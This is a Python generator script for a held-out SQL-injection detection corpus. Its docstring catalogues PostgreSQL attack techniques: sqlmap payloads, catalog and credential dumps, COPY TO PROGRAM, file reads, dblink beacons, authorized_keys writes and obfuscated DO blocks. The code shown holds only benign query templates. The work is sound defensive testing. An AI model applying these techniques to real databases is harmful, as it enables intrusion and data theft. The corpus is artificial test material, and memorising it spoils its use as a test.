#!/usr/bin/env python3
"""Generator for the eighteenth held-out sql-guard corpus (deterministic, stdlib only).

    python3 make_eighteenth.py [OUTPUT]      # default: eighteenth.jsonl.gz next to this file

Rows follow dev.jsonl's schema and family vocabulary (fields id, sql, label,
family, template, input, inputs, variant, dbms, multi_statement, split) in
about dev's proportions, with the bookkeeping of corpus_kit.py (SlotCorpus,
as in make_ninth.py to make_seventeenth.py); rows whose text occurs in any
earlier corpus (dev to seventeenth) are skipped.  2,814 rows: 1,316 attacks
(46.8 %) and 1,498 benign; ids f18-NNNNNN, split "eighteenth".  Written for
generalization, so the templates, payload lists and benign generators are
new for this file:

* 88 application templates (`t18_<producer>_*`) on tables none of the
  earlier corpora use, in fifteen domains (a narrowboat hire firm, a
  tapestry-weaving studio, a mycology culture bank, a gargoyle and
  grotesque conservation team, an origami convention, a pearl farm, camel
  racing, llama trekking, a soap workshop, a wreck survey, geyser
  monitoring, canyoning guides, an opal mine, a windmill restoration trust
  and a gelato lab), each the SQL text one producer sends after splicing a
  request parameter into it: Go sqlc queries with fmt.Sprintf fallbacks,
  Java JDBI @Define fragments, MyBatis-Plus apply() / last(), Scala doobie
  Fragment.const and Slick #$, Clojure HoneySQL [:raw] through next.jdbc,
  Swift PostgresNIO with interpolated text, SQLModel text(f"..."), pandas
  read_sql("..." % ...), Dagster assets and Prefect tasks, Supabase RPC,
  edge functions and migrations, Retool and Appsmith queries with {{ }}
  bindings inlined, Looker Liquid parameters, TimescaleDB continuous-
  aggregate admin, pg_cron job definitions and run history, Citus
  distributed DDL, pg_stat_statements dashboards, Kotlin Exposed exec(),
  Spring JdbcTemplate string building, a ksqlDB stream sunk by a JDBC sink
  and Laravel DB::statement -- other parameters stay bound as $n.
  Statement shapes: SELECT ... FOR NO KEY UPDATE SKIP LOCKED / FOR UPDATE OF
  ... NOWAIT, UPDATE ... FROM (VALUES ...), data-modifying CTEs (DELETE ...
  RETURNING feeding INSERT ... SELECT or count(*)), INSERT ... OVERRIDING
  SYSTEM VALUE, DECLARE ... CURSOR WITH HOLD / FETCH FORWARD n / MOVE LAST /
  CLOSE, GROUP BY DISTINCT with ROLLUP, ORDER BY ... USING < / >, LIMIT
  ALL, OFFSET n ROWS FETCH NEXT n ROWS ONLY, GROUPS window frames, jsonb
  ->> / #>> '{key}' / @? jsonpath, '...' = ANY(col), ARRAY[...] lists,
  named function arguments (:= and =>), MERGE from a VALUES source (PG15
  forms only), CREATE / REFRESH MATERIALIZED VIEW (CONCURRENTLY, WITH NO
  DATA, WITH (timescaledb.continuous)), ALTER TABLE ... ATTACH PARTITION,
  CREATE STATISTICS, CLUSTER ... USING, REINDEX (VERBOSE) INDEX
  CONCURRENTLY, COPY (query) TO STDOUT (FORMAT binary / csv FORCE_QUOTE),
  ALTER TABLE ... ENABLE ROW LEVEL SECURITY + CREATE POLICY, GRANT ... ON
  ALL TABLES IN SCHEMA + ALTER DEFAULT PRIVILEGES, CREATE TYPE ... AS ENUM,
  ALTER TYPE ... ADD VALUE, CREATE DOMAIN ... CHECK, generated columns,
  SELECT cron.schedule(...) / cron.schedule_in_database(..., $cron$job$cron$)
  / cron.unschedule, pg_notify, pg_advisory_lock / pg_advisory_xact_lock,
  SET ROLE tenant_x; ...; RESET ROLE, SET LOCAL ROLE / request.jwt.claim,
  SET SESSION application_name, SET LOCAL lock_timeout,
  pg_terminate_backend over pg_stat_activity, pg_stat_statements_reset.
  Four templates replay a value the application stored earlier
  (second-order: a camel owner, a diver, a taster, a genus);
* attack payloads of two kinds.  The sqlmap_* families are sqlmap requests
  rebuilt from its PostgreSQL payload tests, weighted to tests
  make_seventeenth.py left out (AND / OR ... (comment), AND NOT, PostgreSQL
  AND ... (CAST), Parameter replace (original value), ORDER BY (original
  value), > 8.1 AND time, OR time (comment), heavy query (comment), > 8.1
  and heavy-query Parameter replace, > 8.1 ORDER BY time, error-based
  Parameter replace and ORDER BY (GENERATE_SERIES), stacked queries without
  and with comment, Generic and PostgreSQL inline queries, a few MSSQL and
  Oracle tests), detection and enumeration inferences for --hostname,
  --is-dba, --schema, --search -C / -T, --roles, --dbs, --common-tables,
  --common-columns, --dump / --count of this file's tables and --sql-query
  on cron.job, pg_authid and settings (default, --no-escape, --no-cast);
  boundaries closing and reopening a string with `AND n=n`, `AND 'x'='x`,
  `OR 'x'='y`, the LIKE form, the slot's required tail or a comment; UNION
  requests with ORDER BY probing and dumps of pg_authid, pg_roles, cron.job,
  pg_namespace, pg_database; takeover steps (lo_unlink, pg_largeobject
  insert, lo_export, pg_read_file, COPY FROM PROGRAM with read-back,
  sys_exec UDF, --priv-esc check, UDF cleanup); and for about one request
  in eight a chain of tamper scripts the earlier files used least or not at
  all (uppercase, randomcomments -- which splits keywords, so the request no
  longer parses --, equaltolike, bluecoat, space2dash, space2randomblank,
  unionalltounion, substring2leftright, escapequotes, and the header-only
  luanginx).  The hand families are PostgreSQL techniques written for this
  file, aimed at the slot they land in (string, number, identifier, ORDER
  BY, LIMIT / OFFSET / FETCH, JSON key, interval, ARRAY and IN lists, VALUES
  rows, SET lists, window frames, function arguments, cron job text,
  cursor and role names): tautologies through SIMILAR TO, xmlexists,
  to_jsonb, ROW() comparisons, ^@, ANY('{..}'), circles, num_nonnulls;
  probes by get_byte, md5 prefixes, split_part, translate, to_hex,
  regexp_count, xmlexists, jsonb_path_exists starts with, numrange and
  privilege / extension probes (pg_cron, Citus, Supabase's auth schema,
  pg_read_server_files, untrusted languages); error leaks through xpath(),
  query_to_xml()::int, xmlparse, ::regclass / ::regrole / ::uuid / ::money
  / ::point / ::macaddr casts, to_date, pg_stat_file, set_config; time by
  recursive-CTE CPU burn, regex backtracking attempts ('^(a+)+$'), heavy
  generate_series and md5 loops, pg_sleep in LATERAL / ARRAY / to_char,
  advisory-lock waits; UNION arms with to_jsonb / jsonb_agg row dumps,
  string_agg, query_to_xml and LATERAL over pg_authid, cron.job,
  auth.users, pg_stat_statements, pg_dist_node, pg_file_settings,
  pg_auth_members; stacked CREATE TRIGGER / CREATE RULE persistence, ALTER
  DEFAULT PRIVILEGES, SET ROLE / SET SESSION AUTHORIZATION to privileged
  roles, pg_terminate_backend / pg_cancel_backend sweeps, LOCK TABLE ...
  ACCESS EXCLUSIVE and FOR UPDATE holds, cron.schedule persistence, NOTIFY
  floods, BYPASSRLS, shared_preload_libraries; pg_read_binary_file,
  pg_stat_file, pg_ls_waldir / pg_ls_tmpdir, lo_from_bytea + lo_export,
  dblink_send_query and dblink DNS beacons, COPY ... TO PROGRAM via
  cron.schedule, authorized_keys writes; DO blocks that EXECUTE reverse()d,
  chr()-aggregated, base64-decoded, format('%s %s') and lower()ed text,
  FOR UPDATE and pg_terminate_backend loops, an auth.uid() hijack, SQL /
  procedure / trigger plants; dollar tags new for this file ($a$, $Q$,
  $x18$, $ж$, $s1$, $b18$, $SQL$, $ø$, $é$, $tag_1$ ...), E'' \\xHH and
  \\UXXXXXXXX escapes, U&'' with UESCAPE.  Breakouts end with comment
  spellings the earlier files used least (`--+`, `-- #`, `--/`, `--\\`,
  `--*`, `--?`, `---`, `----`, `;-- -`, `/*!`, `/*--`, `--` + form feed or
  U+2028, `-- ;`).  Comment truncation uses those and `;--`, `; --`,
  `/*x*/-- x`, `--` + an upper-case word, and a NUL byte (libpq would cut
  the text there).  Obfuscation reshapes payloads outside their literals:
  title, alternating, first-and-last, vowel-upper and half-and-half case;
  form feeds, CR LF and tab runs, also around `(`, `,`, `<>`; comments such
  as `/*_*/`, `/*0*/`, `/*;*/`, `/*--*/`, nested `/*/**/*/` (and in some
  rows a comment splitting a keyword, which PostgreSQL does not rejoin);
  and no spaces;
* benign rows from new input pools (apostrophe names, SQL-looking business
  names, URLs and e-mails, JSON, long notes, Unicode from Arabic and Hebrew
  to Tamil incl. RTL override, zero-width spaces, emoji and look-alike
  apostrophes such as U+FF07 and U+02BC, whitespace, numbers as strings,
  punctuation, formatted codes, and typed values for the typed slots:
  dates, timestamps, intervals, durations, jsonpaths, JSON keys, cron
  expressions, cron job commands, application names, e-mails), attack
  strings escaped correctly for their slot (`escaped_attack_string`,
  including look-alike quotes and \\x27 / \\u0027 / \\047 spelled as text,
  which PostgreSQL does not read as quotes there), new complex generators
  (`cx18_*`: sqlc, JDBI, MyBatis-Plus, doobie, HoneySQL, SQLModel,
  Exposed, Laravel and PostgREST/Supabase output; JSON, text, numeric,
  geometric and date built-ins; sqlc, JDBI, MyBatis-Plus, Retool, Appsmith,
  Looker, Dagster, Prefect, Supabase, pg_cron and traceparent comments;
  windows with GROUPS / EXCLUDE TIES, MATERIALIZED CTEs, recursive
  lineage; query builders; migrations with enums, domains, RLS policies,
  schema-wide grants, ATTACH PARTITION, extended statistics, generated
  columns; UNION / EXCEPT / INTERSECT reports; OVERRIDING SYSTEM VALUE and
  unnest batches; CLUSTER, REINDEX CONCURRENTLY, REFRESH CONCURRENTLY,
  VACUUM options; cursors, advisory locks, SET LOCAL ROLE and savepoints in
  transactions; COPY binary / csv options; EXCLUDE / identity DDL;
  catalog introspection; PREPARE / EXECUTE / DEALLOCATE; SQL, plpgsql and
  procedure bodies; web search) and regression-test-style statements
  written for this file (`regress18:<file>.sql`: portals, matview,
  cluster, stats_ext, rowsecurity, enum, domain, identity, generated,
  triggers, rules, advisory_lock, merge, with, groupingsets, limit,
  select_into, truncate, updatable_views, sequence, alter_table,
  create_index, xml, json, copy2, subselect, join, union, txid, uuid,
  float8, bit, geometry, tstypes, money, interval, timetz, text, case,
  aggregates).

Labelling: see corpus_kit.SlotCorpus; the five `escape_bypass_backslash`
rows are escaped the wrong way for their literal (addslashes or a
backslash before the quote into a standard string, quote doubling only
into E'').

Checked once against PostgreSQL 15's raw parser (throwaway cluster on
loopback, each statement sent through psql as `SELECT 1/0;` + statement in
one simple query, so a syntax error is reported before anything runs):
all 1,498 benign rows parse (10 did not in a first draft -- nine fills of
a template whose column was named `placing`, a reserved word, now `place`,
and an XMLTABLE ... PASSING '...'::xml regression statement, now PASSING
xml '...' -- and were fixed; none was dropped); 975 of the 1,316 attacks
parse, 340 do not (256 sqlmap requests, 38 of them tampered: boundaries
that do not fit the slot, randomcomments' split keywords, escapequotes'
backslashes; 84 hand-written rows: open `/*!` and `/*--` endings,
breakouts that leave a required tail behind, probes in repeated slots),
and one (a NUL-byte truncation) could not be sent.  There is no `parses`
field, as in the seventh to seventeenth corpora.
"""
import base64, os, random, re, sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from corpus_kit import (SlotCorpus, addslashes, backslash_quotes, bisection, by_template, chrs, closers,  # noqa: E402
                        dollar_safe, double_quotes, identifier_input, kind, lex, load_earlier, marked, nulls, number_input, q,
                        quoted_ident_breakout, randnum, rdate, registry, regress_list, render, rstr, rts, rword, sqlmap_delays,
                        strip_andor, text_input, typed_input, union_request, without_spaces)
import corpus_kit  # noqa: E402
from corpus_kit import ids, params, kind_lead_in  # noqa: E402
from functools import partial  # noqa: E402

SEED = 18181818
HERE = os.path.dirname(os.path.abspath(__file__))
EARLIER = ("dev", "generalization", "blind", "holdout", "fresh", "sixth", "seventh", "eighth", "ninth", "tenth", "eleventh", "twelfth",
           "thirteenth", "fourteenth", "fifteenth", "sixteenth", "seventeenth")
PG = "PostgreSQL"


# ---------------------------------------------------------------- application templates
# (name, text, {slot: (type, the template's own values, "typed:KIND" or "",
# cut, cond_cut)}), as in make_seventeenth.py: the SQL text one producer
# sends after splicing a request parameter into it (the producer is the
# second part of the name; other parameters stay bound as $n).  Slot types:
# q '...', e E'...', d $cron$...$cron$, qi "...", n number, list (numbers
# joined with commas), col (ORDER BY expression), dir (ASC/DESC), ident
# (part of a bare identifier).  cut: what closes the statement's open parts
# after the slot when more than brackets must follow; cond_cut: what closes
# the slot before a condition appended in its WHERE.
def S(typ, vals, knd="", cut=None, cond_cut=None):
    return (typ, vals, "typed:" + knd if knd else "", cut, cond_cut)


MERGE_CUT = ")) AS s(mill_id, inspected_on, verdict) ON true WHEN MATCHED THEN DO NOTHING"
T = [
 # narrowboat hire -- Go sqlc queries with fmt.Sprintf fallbacks for the filters sqlc cannot express
 ("t18_sqlcfb_boat_lock", "SELECT boat_id, boat_name, berths FROM narrowboats WHERE home_marina = '{a}' AND berths >= {b} ORDER BY boat_name FOR NO KEY UPDATE SKIP LOCKED",
  {"a": S("q", ["Braunston", "Hebden Bridge"]), "b": S("n", ["4", "6"])}),
 ("t18_sqlcfb_booking_values", "UPDATE hire_bookings AS hb SET status = v.status, updated_at = now() FROM (VALUES ({a}, '{b}')) AS v(booking_id, status) WHERE hb.booking_id = v.booking_id RETURNING hb.booking_id, hb.status",
  {"a": S("n", ["40211", "87"], "", ")) AS v(booking_id, status)"), "b": S("q", ["confirmed", "deposit paid"], "", ")) AS v(booking_id, status)")}),
 ("t18_sqlcfb_lock_flight", "WITH moved AS (DELETE FROM lock_queue WHERE lock_name = '{a}' AND queued_at < now() - interval '{b}' RETURNING boat_id, queued_at) INSERT INTO lock_passages (boat_id, queued_at, passed_at) SELECT boat_id, queued_at, now() FROM moved",
  {"a": S("q", ["Hatton 21", "Foxton Staircase"], "", ") SELECT 1"), "b": S("q", ["40 minutes", "2 hours"], "interval", ") SELECT 1")}),
 ("t18_sqlcfb_fuel_override", "INSERT INTO fuel_logs (log_id, boat_id, litres, pumped_by) OVERRIDING SYSTEM VALUE VALUES ({a}, {b}, {c}, '{d}')",
  {"a": S("n", ["900120", "77"]), "b": S("n", ["14", "3"]), "c": S("n", ["62.5", "40"]), "d": S("q", ["Marina desk", "Gwen Alsop"])}),
 ("t18_sqlcfb_cruise_cursor", "DECLARE cruise_{a} CURSOR WITH HOLD FOR SELECT leg_id, from_lock, to_lock, hours FROM cruise_legs WHERE route = '{b}' ORDER BY leg_id",
  {"a": S("ident", ["ring_4412", "cheshire"], "", " CURSOR FOR SELECT 1"), "b": S("q", ["Cheshire Ring", "Four Counties Ring"])}),
 ("t18_sqlcfb_cruise_fetch", "FETCH FORWARD {a} FROM cruise_legs_cur",
  {"a": S("n", ["10", "50"], "", " FROM cruise_legs_cur")}),
 ("t18_sqlcfb_cursor_close", "MOVE LAST IN cruise_{a}; CLOSE cruise_{a}",
  {"a": S("ident", ["ring_4412", "cheshire"])}),
 # tapestry weaving studio -- Java JDBI with @Define'd fragments (raw text) beside bound :params
 ("t18_jdbi_warp_sort", "SELECT loom_id, warp_count, sett_epi FROM looms WHERE studio = $1 ORDER BY {a} {b} LIMIT ALL",
  {"a": S("col", ["sett_epi", "warp_count", "loom_id"]), "b": S("dir", ["DESC", "ASC"])}),
 ("t18_jdbi_yarn_lots", "SELECT dye_lot, colour_name, skeins FROM yarn_{a} WHERE skeins > {b} ORDER BY dye_lot OFFSET {c} ROWS FETCH NEXT 25 ROWS ONLY",
  {"a": S("ident", ["wool", "silk"], "", " WHERE true"), "b": S("n", ["0", "12"]), "c": S("n", ["0", "25"])}),
 ("t18_jdbi_cartoon_groups", "SELECT weaver, status, count(*) FROM cartoon_sections WHERE tapestry_id = {a} GROUP BY DISTINCT weaver, ROLLUP (status) ORDER BY weaver USING <",
  {"a": S("n", ["31", "1207"])}),
 ("t18_jdbi_dye_recipe", "INSERT INTO dye_recipes (recipe_code, mordant, bath_temp_c, notes) VALUES ('{a}', '{b}', {c}, E'{d}') RETURNING recipe_id",
  {"a": S("q", ["MADDER-07", "WELD-2"]), "b": S("q", ["alum", "iron"]), "c": S("n", ["85", "60"]), "d": S("e", ["afterbath in chalk\\nrinse twice", "weigh fibre dry (WOF)"])}),
 ("t18_jdbi_commission_swatch", "SELECT commission_id, brief -> 'palette' ->> '{a}' AS swatch FROM commissions WHERE brief @? '{b}'",
  {"a": S("q", ["ground", "border"], "jkey"), "b": S("q", ["$.palette.ground", "$.size ? (@.w > 100)"], "jpath")}),
 ("t18_jdbi_refresh_view", "REFRESH MATERIALIZED VIEW CONCURRENTLY tapestry_{a}",
  {"a": S("ident", ["weaver_hours", "yarn_usage"])}),
 # mycology culture bank -- MyBatis-Plus QueryWrapper.apply() / last() with concatenated text
 ("t18_mbplus_cultures_apply", "SELECT id,strain_code,genus,isolated_on FROM culture_strain WHERE deleted=0 AND (genus = '{a}' AND isolated_on >= '{b}')",
  {"a": S("q", ["Pleurotus", "Hericium"]), "b": S("q", ["2024-03-01", "2019-11-15"], "date")}),
 ("t18_mbplus_last_limit", "SELECT id,strain_code,viability FROM culture_vial WHERE deleted=0 AND freezer_rack = {a} ORDER BY viability DESC LIMIT {b}",
  {"a": S("n", ["12", "3"]), "b": S("n", ["20", "100"])}),
 ("t18_mbplus_vial_update", "UPDATE culture_vial SET location='{a}', moved_by='{b}', version=version+1 WHERE id={c} AND version={d} AND deleted=0",
  {"a": S("q", ["LN2 dewar B / rack 4", "-80 freezer 2"]), "b": S("q", ["Ayesha Noor", "tech.kim"]), "c": S("n", ["5512", "90"]), "d": S("n", ["3", "11"])}),
 ("t18_mbplus_species_in", "SELECT id,genus,species FROM culture_strain WHERE deleted=0 AND (species_id IN ({a})) AND genus ILIKE '%{b}%'",
  {"a": S("list", ["4, 9, 16", "2"]), "b": S("q", ["trametes", "Cordy"])}),
 ("t18_mbplus_ext_stats", "CREATE STATISTICS IF NOT EXISTS culture_{a}_stats (dependencies, ndistinct) ON genus, species FROM culture_strain",
  {"a": S("ident", ["genus_species", "taxa"], "", "_s ON genus, species FROM culture_strain")}),
 # gargoyle and grotesque conservation -- Scala doobie Fragment.const and Slick #$ splices
 ("t18_doobie_grotesques", "SELECT g.grotesque_id, g.facade, g.erosion_grade FROM grotesques g WHERE g.cathedral = '{a}' AND g.erosion_grade > {b} ORDER BY g.erosion_grade DESC, g.grotesque_id FOR UPDATE OF g NOWAIT",
  {"a": S("q", ["Wells", "Notre-Dame de Reims"]), "b": S("n", ["3", "1"])}),
 ("t18_doobie_survey_matview", "CREATE MATERIALIZED VIEW IF NOT EXISTS survey_{a} AS SELECT facade, avg(erosion_grade) AS avg_grade FROM grotesques WHERE surveyed_on >= '{b}' GROUP BY facade WITH NO DATA",
  {"a": S("ident", ["2025_west", "north_porch"], "", " AS SELECT 1"), "b": S("q", ["2025-04-01", "2023-09-30"], "date")}),
 ("t18_slick_mortar_mix", "select mix_id, lime_ratio, aggregate from mortar_mixes where lime_kind = '{a}' and lime_ratio between {b} and 4.0",
  {"a": S("q", ["NHL 3.5", "hot-mixed quicklime"]), "b": S("n", ["2.5", "1"])}),
 ("t18_slick_cluster", "CLUSTER conservation.{a} USING {a}_pkey",
  {"a": S("ident", ["grotesques", "mortar_mixes"])}),
 ("t18_doobie_photo_attach", "ALTER TABLE condition_photos ATTACH PARTITION condition_photos_{a} FOR VALUES FROM ('{b}') TO ('{c}')",
  {"a": S("ident", ["2025", "y2024"], "", " FOR VALUES FROM (MINVALUE) TO (MAXVALUE)"), "b": S("q", ["2025-01-01", "2024-01-01"], "date", ") TO (MAXVALUE)"),
   "c": S("q", ["2026-01-01", "2025-01-01"], "date")}),
 ("t18_doobie_reindex", "REINDEX (VERBOSE) INDEX CONCURRENTLY grotesques_{a}_idx",
  {"a": S("ident", ["facade", "erosion_grade"], "", "_idx")}),
 # origami convention -- Clojure HoneySQL [:raw ...] fragments run through next.jdbc
 ("t18_honeysql_models", "SELECT \"model_id\", \"title\", \"creases\" FROM \"origami_models\" WHERE (\"designer\" = $1) AND (difficulty <= {a}) ORDER BY {b} LIMIT {c}",
  {"a": S("n", ["3", "5"]), "b": S("col", ["creases", "title", "model_id DESC"]), "c": S("n", ["10", "40"])}),
 ("t18_honeysql_folder_tags", "SELECT \"folder_id\", \"handle\" FROM \"folders\" WHERE ('{a}' = ANY(\"tags\")) AND (\"joined_year\" = {b})",
  {"a": S("q", ["tessellation", "wet-folding"]), "b": S("n", ["2019", "2024"])}),
 ("t18_honeysql_sessions", "SELECT \"session_id\", \"room\", \"starts_at\" FROM \"convention_sessions\" WHERE (\"day\" = '{a}'::date) AND (\"room\" IN ({b})) ORDER BY \"starts_at\" USING <",
  {"a": S("q", ["2025-08-16", "2026-05-02"], "date"), "b": S("list", ["1, 2", "4"])}),
 ("t18_honeysql_registration", "INSERT INTO \"registrations\" (\"attendee_email\", \"badge_name\", \"workshop_ids\") VALUES ('{a}', '{b}', ARRAY[{c}]) RETURNING \"registration_id\"",
  {"a": S("q", ["kami@fold.example", "akira.y@example.jp"], "email"), "b": S("q", ["Crane Lady", "Tomoko"]), "c": S("list", ["3, 7", "12"])}),
 ("t18_honeysql_paper_stock", "UPDATE \"paper_stock\" AS ps SET \"sheets\" = ps.sheets - v.used FROM (VALUES ('{a}', {b})) AS v(paper_code, used) WHERE ps.paper_code = v.paper_code",
  {"a": S("q", ["KAMI-15", "WASHI-LOKTA"], "", ")) AS v(paper_code, used)"), "b": S("n", ["40", "3"], "", ")) AS v(paper_code, used)")}),
 # pearl farm -- Swift PostgresNIO with a string built by interpolation (unsafeSQL)
 ("t18_pgnio_longlines", "SELECT line_id, buoy_count, depth_m FROM longlines WHERE lagoon = '{a}' AND depth_m BETWEEN {b} AND 30 ORDER BY line_id OFFSET {c} ROWS",
  {"a": S("q", ["Rangiroa", "Manihi"]), "b": S("n", ["4", "12"]), "c": S("n", ["0", "50"])}),
 ("t18_pgnio_nucleation", "INSERT INTO nucleations (oyster_id, technician, nucleus_mm, seeded_at) VALUES ({a}, '{b}', {c}, now()) RETURNING nucleation_id",
  {"a": S("n", ["700313", "12"]), "b": S("q", ["Teva", "M. Tetuanui"]), "c": S("n", ["6.6", "7.2"])}),
 ("t18_pgnio_harvest_grade", "SELECT grade, count(*) AS pearls, avg(lustre) FILTER (WHERE surface = '{a}') AS lustre FROM harvested_pearls WHERE harvest_id = {b} GROUP BY DISTINCT grade",
  {"a": S("q", ["clean", "light spotting"]), "b": S("n", ["88", "2025"])}),
 ("t18_pgnio_advisory", "SELECT pg_advisory_lock({a}, {b})",
  {"a": S("n", ["18", "4"]), "b": S("n", ["1001", "77"])}),
 ("t18_pgnio_water", "SELECT reading_at, temp_c, salinity FROM water_readings WHERE station = '{a}' AND reading_at > now() - '{b}'::interval ORDER BY reading_at DESC LIMIT {c}",
  {"a": S("q", ["lagoon pass", "hatchery intake"]), "b": S("q", ["6 hours", "2 days"], "interval"), "c": S("n", ["100", "24"])}),
 # camel racing -- SQLModel session.exec(text(f"...")) and pandas read_sql("..." % params)
 ("t18_sqlmodel_camels", "SELECT camel.id, camel.name, camel.robot_jockey FROM camel WHERE camel.owner = '{a}' AND camel.age_years < {b}",
  {"a": S("q", ["Al Wathba Stables", "Sheikha M."]), "b": S("n", ["8", "12"])}),
 ("t18_sqlmodel_race_entries", "SELECT race_entry.id, race_entry.camel_id FROM race_entry JOIN race ON race.id = race_entry.race_id WHERE race.track = '{a}' AND race.run_on = '{b}'",
  {"a": S("q", ["Al Marmoom", "Shahaniya"]), "b": S("q", ["2026-01-15", "2025-12-02"], "date")}),
 ("t18_pandas_split_groups", "SELECT camel_id, lap, split_s, avg(split_s) OVER (PARTITION BY camel_id ORDER BY lap GROUPS BETWEEN {a} PRECEDING AND CURRENT ROW) AS rolling FROM split_times WHERE race_id = {b}",
  {"a": S("n", ["1", "3"], "", " PRECEDING AND CURRENT ROW) AS x FROM split_times"), "b": S("n", ["5510", "41"])}),
 ("t18_pandas_purse_report", "SELECT season, sum(purse_aed) AS purse FROM race_results WHERE place <= {a} AND track = '{b}' GROUP BY season ORDER BY season",
  {"a": S("n", ["3", "10"]), "b": S("q", ["Al Marmoom", "Al Wathba"])}),
 ("t18_pandas_copy_binary", "COPY (SELECT camel_id, race_id, finish_s FROM race_results WHERE track = '{a}') TO STDOUT (FORMAT binary)",
  {"a": S("q", ["Shahaniya", "Al Wathba"], "", ") TO STDOUT")}),
 ("t18_sqlmodel_vet_checks", "SELECT id, camel_id, checked_on, verdict FROM vet_check WHERE verdict = '{a}' ORDER BY checked_on DESC NULLS LAST LIMIT {b}",
  {"a": S("q", ["fit to race", "rest 14 days"]), "b": S("n", ["25", "5"])}),
 # llama trekking -- Dagster assets and Prefect tasks with SQL text built from run config
 ("t18_dagster_partition_reload", "DELETE FROM trek_daily WHERE trek_date = '{a}'; INSERT INTO trek_daily (trek_date, treks, llamas_out) SELECT trek_date, count(*), sum(llamas) FROM treks WHERE trek_date = '{a}' GROUP BY trek_date",
  {"a": S("q", ["2025-07-04", "2026-02-11"], "date")}),
 ("t18_dagster_pack_llamas", "SELECT llama_id, name, pack_kg FROM llamas WHERE herd = '{a}' AND pack_kg <= {b} ORDER BY pack_kg DESC",
  {"a": S("q", ["Cwm Llama Co", "Hilltop"]), "b": S("n", ["25", "30"])}),
 ("t18_prefect_weigh_in", "UPDATE llamas SET pack_kg = {a}, last_weighed = '{b}' WHERE llama_id = {c} RETURNING llama_id, pack_kg",
  {"a": S("n", ["22.5", "28"]), "b": S("q", ["2025-06-30", "2026-03-01"], "date"), "c": S("n", ["41", "7"])}),
 ("t18_prefect_trail_path", "SELECT trail_id, conditions #>> '{{a}}' AS v FROM trails WHERE region = '{b}'",
  {"a": S("q", ["surface", "ford"], "jkey"), "b": S("q", ["Brecon Beacons", "Pennines"])}),
 ("t18_prefect_copy_bookings", "COPY (SELECT * FROM trek_bookings WHERE booked_on >= '{a}' ORDER BY booked_on) TO STDOUT WITH (FORMAT csv, FORCE_QUOTE *)",
  {"a": S("q", ["2025-01-01", "2025-10-15"], "date", ") TO STDOUT")}),
 ("t18_dagster_tenant_role", "SET ROLE tenant_{a}; SELECT trek_id, guide FROM treks WHERE trek_date = '{b}'; RESET ROLE",
  {"a": S("ident", ["cwm", "hilltop"]), "b": S("q", ["2025-08-09", "2026-04-18"], "date")}),
 # soap workshop -- Supabase: supabase.rpc() calls, edge functions with postgres.js unsafe(), migrations
 ("t18_supabase_rpc_batches", "select * from public.soap_batches_for(p_oil := '{a}', p_min_cure_days := {b})",
  {"a": S("q", ["olive", "shea butter"], "", ", p_min_cure_days := 28)"), "b": S("n", ["28", "42"])}),
 ("t18_supabase_edge_order", "insert into public.soap_orders (customer_email, scent, bars) values ('{a}', '{b}', {c}) returning id, created_at",
  {"a": S("q", ["lather@soap.example", "orders+b2b@example.com"], "email"), "b": S("q", ["lavender & oat", "unscented"]), "c": S("n", ["6", "24"])}),
 ("t18_supabase_rls_migration", "alter table public.{a} enable row level security; create policy \"owner reads\" on public.{a} for select using (auth.uid() = owner_id)",
  {"a": S("ident", ["soap_orders", "scent_notes"])}),
 ("t18_supabase_lye_calc", "select oil, sap_koh, round({a} * sap_koh / 1.403, 2) as naoh_g from saponification_values where oil ilike '{b}%'",
  {"a": S("n", ["500", "1250"]), "b": S("q", ["coco", "castor"])}),
 ("t18_supabase_soap_filter", "select id, name, scent from public.soaps where (scent = '{a}' or tags @> array['{b}'])",
  {"a": S("q", ["rosemary mint", "oud"]), "b": S("q", ["vegan", "palm-free"])}),
 ("t18_supabase_jwt_sub", "SET LOCAL ROLE authenticated; SET LOCAL request.jwt.claim.sub = '{a}'",
  {"a": S("q", ["6f1c2a9e-0b7d-4d1e-9c44-2a1f0e5b7c10", "anon"])}),
 # wreck survey -- Retool and Appsmith queries with {{ }} bindings inlined as text
 ("t18_retool_dives", "SELECT dive_id, wreck_id, max_depth_m, bottom_time FROM survey_dives WHERE wreck_id = {a} AND diver = '{b}' ORDER BY dive_id DESC",
  {"a": S("n", ["118", "9"]), "b": S("q", ["Mensun", "J. Whitcombe"])}),
 ("t18_retool_artifact_update", "UPDATE artifacts SET condition = '{a}', conserved_pct = {b}, notes = '{c}' WHERE artifact_id = {d}",
  {"a": S("q", ["concreted", "stable"]), "b": S("n", ["40", "100"]), "c": S("q", ["desalination bath 3", "photographed in situ"]), "d": S("n", ["2207", "15"])}),
 ("t18_appsmith_wreck_search", "SELECT wreck_id, vessel_name, sunk_year FROM wrecks WHERE vessel_name ILIKE '%{a}%' AND sunk_year BETWEEN {b} AND {c} ORDER BY {d} LIMIT {e} OFFSET {f}",
  {"a": S("q", ["Mary", "HMS"]), "b": S("n", ["1600", "1850"]), "c": S("n", ["1945", "1900"]), "d": S("col", ["sunk_year", "vessel_name", "wreck_id"]),
   "e": S("n", ["20", "50"]), "f": S("n", ["0", "40"])}),
 ("t18_appsmith_dive_plan", "INSERT INTO dive_plans (wreck_id, planned_for, gas_mix, max_ppo2) VALUES ({a}, '{b}', '{c}', {d}) RETURNING plan_id",
  {"a": S("n", ["118", "31"]), "b": S("q", ["2025-09-12 08:30", "2026-06-01 07:00"], "ts"), "c": S("q", ["EAN32", "Tx 18/45"]), "d": S("n", ["1.4", "1.2"])}),
 ("t18_retool_sonar_frame", "SELECT scan_id, jsonb_extract_path_text(sonar_meta, 'frame', '{a}') AS v FROM sonar_scans WHERE survey_id = {b}",
  {"a": S("q", ["heading", "altitude_m"]), "b": S("n", ["12", "307"])}),
 ("t18_appsmith_schema_grants", "GRANT SELECT ON ALL TABLES IN SCHEMA {a} TO wreck_viewer; ALTER DEFAULT PRIVILEGES IN SCHEMA {a} GRANT SELECT ON TABLES TO wreck_viewer",
  {"a": S("ident", ["survey", "archive_2024"])}),
 # geyser monitoring -- TimescaleDB continuous-aggregate admin and Looker (Liquid parameters)
 ("t18_tsdb_cagg", "CREATE MATERIALIZED VIEW geyser_{a}_hourly WITH (timescaledb.continuous) AS SELECT time_bucket('{b}', observed_at) AS bucket, geyser_id, max(water_temp_c) AS tmax FROM eruption_obs GROUP BY bucket, geyser_id WITH NO DATA",
  {"a": S("ident", ["basin", "upper"], "", "_h AS SELECT 1"), "b": S("q", ["1 hour", "15 minutes"], "interval", ", now()) AS bucket")}),
